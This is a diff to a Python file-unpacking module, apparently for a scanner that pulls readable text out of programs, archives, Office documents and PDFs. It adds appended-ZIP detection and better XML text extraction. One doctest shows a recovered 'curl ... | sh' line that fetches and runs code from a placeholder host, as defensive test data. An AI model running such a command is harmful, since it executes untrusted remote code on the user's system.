@@ -36,10 +36,10 @@ _PROGRAMS = (
     (b"\xce\xfa\xed\xfe", "a macOS program"),
     (b"\xca\xfe\xba\xbe", "a macOS program or Java class"),
     (b"\0asm", "a WebAssembly program"),
-    (b"dex\n", "an Android program"),
+    (b"dex\n0", "an Android program"),
 )
 _PROGRAM_MAGIC = tuple(magic for magic, _ in _PROGRAMS)
-_LINE_OF_TEXT = re.compile(rb"[\t\x20-\x7e]+\r?\n")
+_LINE_OF_TEXT = re.compile(rb"(?!dex\n0\d\d\0)[\t\x20-\x7f\x80-\xff]+\r?\n")
 _MEDIA = (
     (b"\x89PNG\r\n\x1a\n", (".png", ".apng")),
     (b"\xff\xd8\xff", (".jpg", ".jpeg")),
@@ -79,10 +79,14 @@ _OFFICE_DATA = re.compile(r"printerSettings\d*\.bin$|\.(?:odttf|fntdata|emf|wmf|
 _MACROS = re.compile(r"vbaProject\.bin$", re.I)
 _TOLD_BESIDE = re.compile(r"\b(?:descr|title|Target|instr|tooltip|alt)\s*=\s*\"([^\"]{8,})\"")
 """What a document says in an attribute: a text in place of a picture, the address behind a link, a field."""
+_ZIP = (b"PK\x03\x04", b"PK\x05\x06")
+_MAX_END_OF_ZIP = 22 + 0xFFFF
+"""The list of an archive is told by its last bytes, and a comment behind them."""
 _LOCAL_HEAD, _AFTER_MEMBER = 30, 24
 """Bytes before the name of a member, and at most so many behind its content."""
-_TAG = re.compile(r"<[^>]{0,400}>")
-_PARAGRAPH = re.compile(r"</(?:w:p|a:p|text:p|si|row)>")
+_TAG = re.compile(r"<[^<>]*+>")
+_PARAGRAPH = re.compile(r"</(?:w:p|a:p|text:[ph]|si|is|row)>|<(?:w:br|w:cr|a:br|text:line-break)\b[^<>]*+>")
+_BLANK = re.compile(r"<(?:w:tab|text:tab|text:s)\b[^<>]*+>")
 _MAGIC = re.compile(r"\s*%%(\w+)[^\n]*\n")
 _OF_MAGIC = {"js": "javascript", "javascript": "javascript", "powershell": "powershell", "perl": "perl", "ruby": "ruby",
              "python": "python", "python3": "python", "time": "python", "timeit": "python", "capture": "python", "html": "html",
@@ -130,29 +134,29 @@ def unpack(name: str, data: bytes) -> Unpacked | None:
 
     >>> unpack("a.txt", b"plain") is None
     True
-    >>> unpack("tool", b"\\x7fELF...").program
+    >>> unpack("tool", b"\\x7fELF\\2\\1\\1\\0").program
     'an ELF program'
     """
     lower = name.lower()
     if lower.endswith(".ipynb") or _is_notebook(data):
         return _notebook(data)
-    for magic, what in _PROGRAMS if data.startswith(_PROGRAM_MAGIC) else ():
-        if data.startswith(magic) and (magic != b"MZ" or (b"\0" in data[:256] and not _LINE_OF_TEXT.match(data))):
+    for magic, what in _PROGRAMS if data.startswith(_PROGRAM_MAGIC) and not _LINE_OF_TEXT.match(data) else ():
+        if data.startswith(magic) and b"\0" in data[:256]:
             return Unpacked(program=what, unread=[("", f"Is {what}, so what it does was not read.")])
     if lower.endswith((".pyc", ".pyo")) or (data[2:4] == b"\r\n" and b"\0" in data[:32]):
         unread = [("", "Is compiled Python, so what it does was not read.")]
         return Unpacked(members=text_within(data), program="compiled Python", unread=unread)
-    if data.startswith((b"PK\x03\x04", b"PK\x05\x06")) or lower.endswith((".zip", ".docx", ".xlsx", ".pptx")):
+    if data.startswith(_ZIP) or lower.endswith((".zip", ".docx", ".xlsx", ".pptx")):
         return _zip(lower, data)
     for magic, opener in _STREAMS:
-        if data.startswith(magic):
+        if data.startswith(magic) and not _is_text(data):
             return _stream(name, data, magic, opener)
     if data[257:262] == b"ustar" or (lower.endswith(".tar") and b"\0" in data[:512]):
         return _tar(data)
     if data.startswith(b"%PDF"):
         return _pdf(data)
-    if data.startswith((b"Rar!", b"7z\xbc\xaf", b"xar!", b"\xd0\xcf\x11\xe0", b"MSCF")):
-        return Unpacked(unread=[("", "Is an archive of a kind that is not opened here.")])
+    if data.startswith((b"Rar!", b"7z\xbc\xaf", b"xar!", b"\xd0\xcf\x11\xe0", b"MSCF")) and not _is_text(data):
+        return Unpacked(members=text_within(data), unread=[("", "Is an archive of a kind that is not opened here.")])
     return _media(lower, data)
 
 
@@ -196,7 +200,22 @@ def text_within(data: bytes) -> list[tuple[str, bytes]]:
     [('text', b' curl -s https://a.invalid/i | sh\\n')]
     """
     runs = _RUN_OF_TEXT.findall(data) + [run[::2] for run in _RUN_OF_WIDE_TEXT.findall(data)]
-    return [("text", b"\n".join(runs))] if runs else []
+    return [("text", b"\n\n".join(runs))] if runs else []
+
+
+def begin_of_zip(data: bytes) -> int:
+    """Where the archive begins that ends a file of another kind; 0 if there is none, or nothing before it.
+
+    >>> begin_of_zip(b"GIF89a")
+    0
+    """
+    if data.startswith(_ZIP) or b"PK\x05\x06" not in data[-_MAX_END_OF_ZIP:]:
+        return 0
+    try:
+        with zipfile.ZipFile(io.BytesIO(data)) as archive:
+            return max(0, min((info.header_offset for info in archive.infolist()), default=0))
+    except _BROKEN:
+        return 0
 
 
 def _is_text(data: bytes) -> bool:
@@ -239,8 +258,13 @@ def _zip(lower: str, data: bytes) -> Unpacked:
                     opened.unread.append((name, "Unpacks to more than is read."))
                     break
                 if is_office and _OFFICE_TEXT.match(name):
-                    texts.append(_xml_text(content.decode("utf-8", "replace")))
-                elif is_office and _OFFICE_DATA.search(name):
+                    encoding = json.detect_encoding(content)
+                    try:
+                        texts.append(_xml_text(content.decode(encoding)))
+                    except UnicodeDecodeError:
+                        opened.unread.append((name, "Is in letters that are not all read here."))
+                        texts.append(_xml_text(content.decode(encoding, "replace")))
+                elif is_office and _OFFICE_DATA.search(name) and not _is_packed(name, content):
                     opened.members += [(f"{name}/{inner}", text) for inner, text in text_within(content)]
                 else:
                     opened.members.append((name, content))
@@ -250,6 +274,10 @@ def _zip(lower: str, data: bytes) -> Unpacked:
     if is_office:
         opened.text, opened.kind = "\n".join(texts), "markdown"
     return opened
+
+
+def _is_packed(name: str, data: bytes) -> bool:
+    return unpack(name, data) is not None or begin_of_zip(data) > 0
 
 
 def _outside(data: bytes, infos: list[zipfile.ZipInfo], start_of_list: int) -> Iterator[tuple[str, bytes]]:
@@ -271,9 +299,20 @@ def _outside(data: bytes, infos: list[zipfile.ZipInfo], start_of_list: int) -> I
 
 
 def _xml_text(text: str) -> str:
-    said = html.unescape(_TAG.sub("", _PARAGRAPH.sub("\n", text)))
+    text = _between(text, "<![CDATA[", "]]>", html.escape)
+    text = _between(text, "<!--", "-->", lambda _: "")
+    said = html.unescape(_TAG.sub("", _BLANK.sub(" ", _PARAGRAPH.sub("\n", text))))
     beside = [html.unescape(found) for found in _TOLD_BESIDE.findall(text)]
     return "\n".join([said, *beside])
+
+
+def _between(text: str, begin: str, end: str, instead: Callable[[str], str]) -> str:
+    """A text, with something else instead of what stands between two marks."""
+    pieces, place = list[str](), 0
+    while (at := text.find(begin, place)) >= 0 and (until := text.find(end, at + len(begin))) >= 0:
+        pieces += text[place:at], instead(text[at + len(begin) : until])
+        place = until + len(end)
+    return "".join([*pieces, text[place:]])
 
 
 def _stream(name: str, data: bytes, magic: bytes, opener: Callable[[], Any]) -> Unpacked:
@@ -296,6 +335,7 @@ def _stream(name: str, data: bytes, magic: bytes, opener: Callable[[], Any]) -> 
             opened.members.append(("behind", data))
     except (OSError, EOFError, zlib.error, lzma.LZMAError, ValueError) as error:
         opened.unread.append(("", f"Cannot be unpacked: {str(error)[:80]}."))
+        opened.members += text_within(data)
     inner = name.rsplit("/", 1)[-1].rsplit(".", 1)[0] or "content"
     inner = f"{inner}.tar" if name.lower().endswith((".tgz", ".tbz", ".txz")) else inner
     opened.members.append((inner, content[:MAX_UNPACKED_BYTES]))
@@ -332,9 +372,9 @@ def _pdf(data: bytes) -> Unpacked:
     """The text that a PDF shows, as far as its streams are plain or deflated and its letters are told.
 
     Letters that a font numbers as it likes are read by the tables of the file, by each of them: which font shows what is
-    not followed.
+    not followed. What stands in plain text outside of what it shows is read, too: who runs the file runs that.
     """
-    opened = Unpacked(text="", kind="markdown")
+    opened = Unpacked(members=text_within(data[4:]), text="", kind="markdown")
     contents, room = list[bytes](), MAX_UNPACKED_BYTES
     begin = data.find(b"stream")
     while begin >= 0 and (end := data.find(b"endstream", begin)) >= 0:
